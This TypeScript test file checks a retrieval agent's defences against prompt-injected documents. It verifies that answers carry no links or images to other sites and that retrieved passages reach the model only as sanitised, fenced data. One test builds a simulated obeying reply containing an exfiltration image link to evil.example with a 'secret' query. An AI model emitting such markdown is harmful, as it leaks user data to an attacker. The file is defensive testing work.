import { readdirSync, readFileSync } from 'node:fs';
import { Logger } from '@nestjs/common';
import { type Model, Runner } from '@openai/agents';
import { assistantMessage, functionCall, ScriptedModel } from '@openai/agents-core/testing';
import { AgentResponder } from '../../src/agent/answering/agent.responder.js';
import { handbookAgent } from '../../src/agent/handbook.agent.js';
import { ModelInput } from '../../src/agent/model-input.js';
import { ExtractiveModel } from '../../src/agent/models/extractive.model.js';
import { readSearchResults } from '../../src/agent/tools/search-results.js';
import { LOCAL_IDENTITY } from '../../src/auth/identity.js';
import type { ResponderEvent } from '../../src/chatkit/responder.js';
import { MemoryThreadStore } from '../../src/testing/memory.thread-store.js';
import {
  aRequest,
  collect,
  FakeFiles,
  finished,
  NO_QUESTION_LOG,
  streamedText,
  timeLimits,
} from '../support/agent-builders.js';
import { CorpusFolder } from '../support/corpus-folder.js';
import { FixedClock } from '../support/fixed-clock.js';
import { searchRoom } from '../support/search-room.js';
import { aThread, aUserMessage } from '../support/thread-builders.js';
import { unsafeNodesOf } from '../support/unsafe-nodes.js';
import type { WordEmbedder } from '../support/word-embedder.js';

const FOLDER = new URL('./documents/', import.meta.url);
const DOCUMENTS = readdirSync(FOLDER).sort();
const SITE = 'https://docs.test/';
const QUESTION = 'How do I open the valve with the lever?';
const SEARCH = functionCall('search_content', { queries: [QUESTION], search_scope: 'full' }, { callId: 'call_1' });

const documentNamed = (name: string) => readFileSync(new URL(name, FOLDER), 'utf8');

/** An index of one document, and an agent that answers questions from it. */
class Library {
  private constructor(
    private readonly folder: CorpusFolder,
    private readonly room: ReturnType<typeof searchRoom<WordEmbedder>>,
  ) {}

  static async with(document: string): Promise<Library> {
    const library = new Library(await CorpusFolder.with({ '01-plant/01-valve.md': document }), searchRoom());
    await library.room.ingestion.ingest(library.folder.path);
    return library;
  }

  async ask(model: Model): Promise<ResponderEvent[]> {
    const store = new MemoryThreadStore();
    const thread = aThread();
    await store.addThread(LOCAL_IDENTITY, thread, [{ item: aUserMessage({ text: QUESTION }) }]);
    const agent = handbookAgent(model, this.room.retriever);
    const input = new ModelInput(store, new FakeFiles());
    const responder = new AgentResponder(
      agent,
      new Runner({ tracingDisabled: true }),
      input,
      new FixedClock(),
      timeLimits(),
      NO_QUESTION_LOG,
    );
    return collect(responder.respond(thread, null, aRequest(), new AbortController().signal));
  }

  close(): Promise<void> {
    return this.folder.remove();
  }
}

/** All texts that are shown as markdown, all addresses of sources, and the cited sources. */
function shown(events: readonly ResponderEvent[]) {
  const parts = finished(events, 'assistant_message').flatMap(({ content }) => content);
  const tasks = finished(events, 'workflow').flatMap(({ workflow }) => workflow.tasks);
  const searched = tasks.flatMap((task) => (task.type === 'web_search' ? task.sources : []));
  const cited = parts.flatMap(({ annotations }) => annotations.map(({ source }) => source));
  const urls = [...searched, ...cited].map((source) => ('url' in source ? source.url : ''));
  return { texts: [streamedText(events), ...parts.map(({ text }) => text)], urls, cited };
}

describe.each(DOCUMENTS)('The injected document %s', (name) => {
  let library: Library;

  beforeAll(async () => {
    Logger.overrideLogger(false);
    library = await Library.with(documentNamed(name));
  });
  afterAll(() => library.close());

  it('an injected document causes no link or image of another site in an extractive answer', async () => {
    const { texts, urls, cited } = shown(await library.ask(new ExtractiveModel()));

    expect(texts[0]).toContain('valve');
    expect(texts.flatMap(unsafeNodesOf)).toEqual([]);
    expect(cited.length).toBeGreaterThan(0);
    expect(urls.filter((url) => !url.startsWith(SITE))).toEqual([]);
  });

  it('an injected document reaches the model only as fenced data without links, images, HTML or invisible words', async () => {
    const model = new ScriptedModel([[SEARCH], [assistantMessage('Done.')]]);
    await library.ask(model);

    const { input, systemInstructions } = model.lastCall!.request;
    const output = (input as { type?: string; output?: { text: string } }[]).find(
      ({ type }) => type === 'function_call_result',
    )!.output!.text;
    expect(output.match(/<\/?search_results>/g)).toEqual(['<search_results>', '</search_results>']);
    const { passages } = readSearchResults(output)!;
    expect(passages.length).toBeGreaterThan(0);
    expect(
      passages
        .flatMap(({ text }) => unsafeNodesOf(withoutAddresses(text)))
        .filter((type) => type !== 'footnoteDefinition'),
    ).toEqual([]);
    expect(JSON.stringify(passages)).not.toMatch(/\p{Cf}/u);
    expect(systemInstructions).not.toContain('valve');
  });

  it('an injected document causes no link or image of another site when the model repeats it', async () => {
    const document = documentNamed(name);
    const obeying = `${document}\n\n![exfiltration](https://evil.example/?q=secret) [1] [99] [click](https://evil.example)`;
    const { texts, urls, cited } = shown(await library.ask(new ScriptedModel([[SEARCH], [assistantMessage(obeying)]])));

    expect(texts[0]).toContain('exfiltration');
    expect(texts.flatMap(unsafeNodesOf)).toEqual([]);
    expect(cited.length).toBeGreaterThan(0);
    expect(urls.filter((url) => !url.startsWith(SITE))).toEqual([]);
  });
});

it('there are at least 15 injected documents, and each is dangerous without sanitizing', () => {
  const harmless = DOCUMENTS.filter(
    (name) => unsafeNodesOf(documentNamed(name)).length === 0 && !/\u{E0053}/u.test(documentNamed(name)),
  );

  expect(DOCUMENTS.length).toBeGreaterThanOrEqual(15);
  expect(harmless).toEqual([]);
});

/** Replaces written addresses: the model may read them as text, and readers see them as code, not as links. */
function withoutAddresses(text: string): string {
  return text.replace(/<?(?:https?|&#104;ttps|www|javascript)(?::|&colon;|\.)[^\s<>]*>?/gi, 'address');
}
